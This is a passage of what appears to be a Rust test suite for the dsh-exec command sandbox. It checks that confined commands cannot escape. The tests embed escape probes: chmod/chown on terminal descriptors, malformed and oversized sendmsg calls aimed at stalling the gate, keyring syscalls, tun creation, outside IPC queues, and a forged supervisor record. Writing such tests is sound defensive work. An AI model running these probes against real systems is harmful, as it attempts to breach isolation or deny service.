    for what, call in ((\"chmod\", lambda: os.fchmod(fd, 0o666)), (\"chown\", lambda: os.fchown(fd, 65534, 65534))):
        try:
            call(); os.write(2, b\"%s %d ok\\n\" % (what.encode(), fd))
        except OSError as e:
            os.write(2, b\"%s %d %d\\n\" % (what.encode(), fd, e.errno))
'";
        let prefix = match tier {
            Tier::MountNamespace => String::new(),
            Tier::Gate => "setpriv --bounding-set=-sys_admin ".into(),
        };
        // stdin and stderr are the terminal, stdout a file outside.
        let outer = format!(
            "stat -c %a:%u $(tty); {prefix}{bin} -i -s read-only -- \"$0\" >> {t}; stat -c %a:%u $(tty)",
            bin = bin().display(),
            t = p(&target)
        );
        let screen = crate::support::pty::Pty::new("/bin/bash")
            .args(["-c", &outer, attack])
            .run();
        let lines: Vec<&str> = screen.text.lines().map(str::trim_end).collect();
        assert_eq!(
            lines.first(),
            lines.last(),
            "{tier:?}: the terminal changed: {}",
            screen.text
        );
        for fd in 0..3 {
            for what in ["chmod", "chown"] {
                assert!(
                    !screen.text.contains(&format!("{what} {fd} ok")),
                    "{tier:?}: {}",
                    screen.text
                );
            }
        }
        let m = std::fs::metadata(&target).unwrap();
        assert_eq!(
            (m.mode() & 0o777, m.uid()),
            (0o644, nix::unistd::getuid().as_raw()),
            "{tier:?}"
        );
    }
}

#[test]
fn a_malformed_or_huge_send_neither_stalls_the_gate_nor_swells_dsh_exec() {
    let d = dirs();
    // An ancillary length of 2^64 - 16 once wrapped the gate's walk into a
    // loop; 1,024 messages of 4 MiB each were all copied at once.
    let script = r#"python3 - <<'EOF'
import ctypes, socket, mmap
libc = ctypes.CDLL(None, use_errno=True)
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
class msghdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32), ("iov", ctypes.POINTER(iovec)),
                ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                ("flags", ctypes.c_int)]
a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
data = ctypes.create_string_buffer(b"x")
iov = iovec(ctypes.cast(data, ctypes.c_void_p), 1)
control = (ctypes.c_uint64 * 4)(2**64 - 16, 1, 0, 0)
m = msghdr(None, 0, ctypes.pointer(iov), 1, ctypes.cast(control, ctypes.c_void_p), 32, 0)
print("wrapped", libc.sendmsg(a.fileno(), ctypes.byref(m), 0), ctypes.get_errno())
m.control, m.controllen = None, 0
print("plain", libc.sendmsg(a.fileno(), ctypes.byref(m), 0))
# 1024 messages of 4 MiB of untouched pages, on a stream socket
big = mmap.mmap(-1, 4 << 20)
class mmsghdr(ctypes.Structure):
    _fields_ = [("hdr", msghdr), ("len", ctypes.c_uint32)]
c, d = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
c.setblocking(False)
addr = ctypes.addressof(ctypes.c_char.from_buffer(big))
biov = iovec(addr, 4 << 20)
msgs = (mmsghdr * 1024)()
for i in range(1024):
    msgs[i].hdr = msghdr(None, 0, ctypes.pointer(biov), 1, None, 0, 0)
n = libc.sendmmsg(c.fileno(), msgs, 1024, 0)
print("sendmmsg", n <= 1, ctypes.get_errno() if n < 0 else 0)
EOF"#;
    // dsh-exec's peak RSS, as the wrapper that waits for it sees it
    // (getrusage(RUSAGE_CHILDREN), in KiB).
    let wrapper = "import resource, subprocess, sys; r = subprocess.run(sys.argv[1:], capture_output=True); \
        sys.stdout.write(r.stdout.decode()); print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)";
    let t0 = std::time::Instant::now();
    let out = Command::new("python3")
        .args(["-c", wrapper])
        .arg(bin())
        .args([
            "--timeout",
            "20s",
            "-s",
            "workspace-write",
            "-C",
            p(&d.ws),
            "--",
            script,
        ])
        .env("TMPDIR", &d.tmp)
        .output()
        .unwrap();
    assert!(t0.elapsed() < Duration::from_secs(10), "{:?}", t0.elapsed());
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(
        text.starts_with("wrapped -1 22\nplain 1\nsendmmsg True"),
        "{text}"
    );
    let rss_kib: u64 = text.lines().last().unwrap().trim().parse().unwrap();
    assert!(rss_kib < 128 * 1024, "peak RSS {rss_kib} KiB: {text}");
}

#[test]
fn under_i_no_other_terminal_can_be_read() {
    if !has_sys_admin() {
        eprintln!(
            "skipped: without a mount namespace /dev/pts cannot be narrowed (issue: read rules)"
        );
        return;
    }
    // Another terminal of the user's, made here: it must not even be seen.
    let other = nix::pty::openpty(None, None).unwrap();
    let other_tty = nix::unistd::ttyname(&other.slave).unwrap();
    let script = format!(
        "ls /dev/pts | wc -l; test -e {o} && echo seen; head -c1 {o} </dev/null; echo rc=$?; tty",
        o = other_tty.display()
    );
    let outer = format!("{} -i -q -s read-only -- \"$0\"", bin().display());
    let screen = crate::support::pty::Pty::new("/bin/bash")
        .args(["-c", &outer, &script])
        .run();
    let lines: Vec<&str> = screen.text.lines().map(str::trim_end).collect();
    assert_eq!(lines[0], "1", "{}", screen.text);
    assert!(!screen.text.contains("seen"), "{}", screen.text);
    assert!(screen.text.contains("rc=1"), "{}", screen.text);
    assert!(
        lines.iter().any(|l| l.starts_with("/dev/pts/")),
        "{}",
        screen.text
    );
    drop(other);
}

#[test]
fn other_terminals_keyrings_and_the_network_devices_are_out_of_reach() {
    let d = dirs();
    // A pseudo-terminal made here stands for another terminal of the user.
    let (master, slave) = {
        let pty = nix::pty::openpty(None, None).unwrap();
        (pty.master, pty.slave)
    };
    let tty = nix::unistd::ttyname(&slave).unwrap();
    for mode in ["read-only", "workspace-write"] {
        let out = confined(
            &d,
            mode,
            &[],
            &format!(
                "echo hi > {t} || stty -F {t} cols 1; echo rc=$?",
                t = tty.display()
            ),
        );
        assert!(out.stdout.starts_with("rc=1\n"), "{mode}: {}", out.stdout);
    }
    drop((master, slave));
    // The keyrings are shared with processes outside: refused.
    let keyctl = "python3 -c 'import ctypes, os; l = ctypes.CDLL(None, use_errno=True); \
        r = l.syscall(250, 0, -3, 0); print(r, os.strerror(ctypes.get_errno()) if r < 0 else \"\")'";
    let out = confined(&d, "read-only", &[], keyctl);
    assert!(
        out.stdout.starts_with("-1 Operation not permitted\n"),
        "{}",
        out.stdout
    );
    // --network deny: netlink families beyond route, sock_diag and uevent
    // are refused; route still works.
    let netlink = "python3 -c '
import socket
for proto in (0, 16, 12):
    try:
        socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, proto); print(proto, \"ok\")
    except OSError as e:
        print(proto, e.strerror)
'";
    let out = Test::new().args(["--network", "deny", "--", netlink]).run();
    assert_eq!(
        out.stdout,
        "0 ok\n16 Permission denied\n12 Permission denied\n\
         [sandbox: network denied: socket(AF_NETLINK) (2 times); try --network allow]\n[exit code: 0]\n"
    );
    if !is_root() || !Path::new("/dev/net/tun").exists() {
        eprintln!("skipped the tun check: needs root and /dev/net/tun");
        return;
    }
    // As root in full-access, --network deny drops CAP_NET_ADMIN: no tun.
    let tun = "python3 -c '
import fcntl, os, struct
fd = os.open(\"/dev/net/tun\", os.O_RDWR)
try:
    fcntl.ioctl(fd, 0x400454ca, struct.pack(\"16sH\", b\"dshtest0\", 1)); print(\"created\")
except OSError as e:
    print(e.strerror)
'";
    let out = Test::new().args(["--network", "deny", "--", tun]).run();
    assert_eq!(out.stdout, "Operation not permitted\n[exit code: 0]\n");
}

#[test]
fn control_socket_variables_are_not_passed_to_a_confined_command() {
    let out = Test::new()
        .env("TMUX", "/tmp/tmux-0/default,1,0")
        .env("STY", "1.pts-0")
        .args(["-s", "read-only", "--", "echo \"[$TMUX][$STY]\""])
        .run();
    assert_eq!(out.stdout, "[][]\n[exit code: 0]\n");
    let out = Test::new()
        .env("TMUX", "/tmp/tmux-0/default,1,0")
        .args(["--", "echo \"[$TMUX]\""])
        .run();
    assert_eq!(out.stdout, "[/tmp/tmux-0/default,1,0]\n[exit code: 0]\n");
}

#[test]
fn a_config_file_that_is_a_fifo_or_a_device_is_refused_at_once() {
    let d = dirs();
    let fifo = d.tmp.join("config.toml");
    nix::unistd::mkfifo(&fifo, nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();
    for path in [fifo.as_path(), Path::new("/dev/zero")] {
        let t0 = std::time::Instant::now();
        let out = Test::new()
            .env("DSH_EXEC_CONFIG", path)
            .args(["--", "true"])
            .run();
        assert_eq!(out.status, 125, "{}", out.stderr);
        assert!(
            out.stderr.contains("not a regular file (CONFIG_INVALID)"),
            "{}",
            out.stderr
        );
        assert!(t0.elapsed() < Duration::from_secs(5));
    }
}

#[test]
fn a_forged_supervisor_record_makes_job_kill_signal_nothing_else() {
    let runtime = crate::jobs::runtime_dir();
    let run = |args: &[&str]| {
        let mut c = dsh();
        let out = crate::jobs::with_runtime(&mut c, runtime.path())
            .args(args)
            .output()
            .unwrap();
        (stdout(&out), code(&out))
    };
    let (id, _) = run(&["--background", "--", "sleep 30"]);
    let id = id.trim().to_string();
    let dir = runtime.path().join("dsh-exec/jobs").join(&id);
    let real: Value =
        serde_json::from_slice(&std::fs::read(dir.join("supervisor.json")).unwrap()).unwrap();
    // An unrelated process, and a record naming it with its real start time.
    let mut victim = Command::new("sleep").arg("30").spawn().unwrap();
    let stat = std::fs::read_to_string(format!("/proc/{}/stat", victim.id())).unwrap();
    let start: u64 = stat
        .rsplit(')')
        .next()
        .unwrap()
        .split_whitespace()
        .nth(19)
        .unwrap()
        .parse()
        .unwrap();
    std::fs::write(
        dir.join("supervisor.json"),
        format!("{{\"pid\":{},\"start\":{start}}}", victim.id()),
    )
    .unwrap();
    let (text, status) = run(&["job", "kill", &id]);
    let victim_alive = victim.try_wait().unwrap().is_none();
    let _ = victim.kill();
    let _ = victim.wait();
    std::fs::write(dir.join("supervisor.json"), real.to_string()).unwrap();
    let _ = run(&["job", "kill", &id]);
    assert!(
        victim_alive,
        "job kill signalled an unrelated process: {text}"
    );
    assert_eq!(status, 1, "{text}");
}

#[test]
fn system_v_ipc_of_outside_processes_is_out_of_reach() {
    // An outside queue, made here: with a private IPC namespace (CAP_SYS_ADMIN)
    // the command does not see it; without one, System V IPC is refused.
    // SAFETY: msgget/msgctl with literal arguments; results checked.
    let id = unsafe { nix::libc::msgget(nix::libc::IPC_PRIVATE, 0o600 | nix::libc::IPC_CREAT) };
    assert!(id >= 0);
    for tier in tiers() {
        let d = dirs();
        let script = format!(
            "python3 -c 'import ctypes; l = ctypes.CDLL(None, use_errno=True); \
             r = l.msgsnd({id}, b\"\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x00x\", 1, 0x800); \
             print(r, ctypes.get_errno()); r = l.shmget(0, 4096, 0o1600); \
             print(\"made\" if r >= 0 else ctypes.get_errno())'"
        );
        let out = confined_in(tier, &d, "workspace-write", &[], &script);
        let want = match tier {
            // The namespace has no queue {id} (EINVAL); a segment of its own
            // goes with the namespace.
            Tier::MountNamespace => "-1 22\nmade\n[exit code: 0]\n",
            Tier::Gate => "-1 1\n1\n[exit code: 0]\n",
        };
        assert_eq!(out.stdout, want, "{tier:?}");
    }
    let mut ds: nix::libc::msqid_ds = unsafe { std::mem::zeroed() };
    // SAFETY: IPC_STAT into our zeroed struct, then IPC_RMID of our queue.
    unsafe {
        assert_eq!(nix::libc::msgctl(id, nix::libc::IPC_STAT, &mut ds), 0);
        nix::libc::msgctl(id, nix::libc::IPC_RMID, std::ptr::null_mut());
    }
    assert_eq!(ds.msg_qnum, 0, "a message reached the outside queue");
}

#[test]
fn a_replaced_protected_file_lends_its_inode_number_to_nothing() {
    // Without a mount namespace `git config --local` replaces .git/config
    // (restored after the run). The new files git makes next to it must not
    // be taken for the protected one when one gets the freed inode number.
    if !have("git") || !tiers().contains(&Tier::Gate) {
        eprintln!("skipped: needs git and the tier without a mount namespace");
        return;
    }
    let d = dirs();
    repository(&d.ws);
    let script = "for i in 1 2 3 4 5 6 7 8; do git config --local dsh.k$i v || echo failed $i; done; \
                  touch .git/x.lock && chmod 600 .git/x.lock && echo ok";
    let out = confined_in(Tier::Gate, &d, "workspace-write", &[], script);
    assert!(out.stdout.starts_with("ok\n"), "{}", out.stdout);
    let config = std::fs::read_to_string(d.ws.join(".git/config")).unwrap();
    assert!(
        !config.contains("dsh.k"),
        "the protected config kept a change"
    );
}

/// A submodule cloned a moment before the run (`git clone
/// --recurse-submodules && dsh-exec ...` in CI) is not taken for one the
/// run planted: its `.git` file stays.
#[test]
fn a_submodule_made_just_before_the_run_is_not_quarantined() {
    if !have("git") {
        eprintln!("skipped: git is not installed");
        return;
    }
    for tier in tiers() {
        let d = dirs();
        let lib = d.outside.join("lib");
        std::fs::create_dir(&lib).unwrap();
        repository(&lib);
        repository(&d.ws);
        let s = Command::new("git")
            .args(["-c", "protocol.file.allow=always", "submodule", "add", "-q"])
            .arg(&lib)
            .arg("lib")
            .current_dir(&d.ws)
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .status()
            .unwrap();
        assert!(s.success());
        let v = confined_in(tier, &d, "workspace-write", &["--json"], "true").json();
        assert_eq!(
            v["sandbox"]["protected_changes"],
            serde_json::Value::Null,
            "{tier:?}: {v}"
        );
        assert!(d.ws.join("lib/.git").is_file(), "{tier:?}");
    }
}
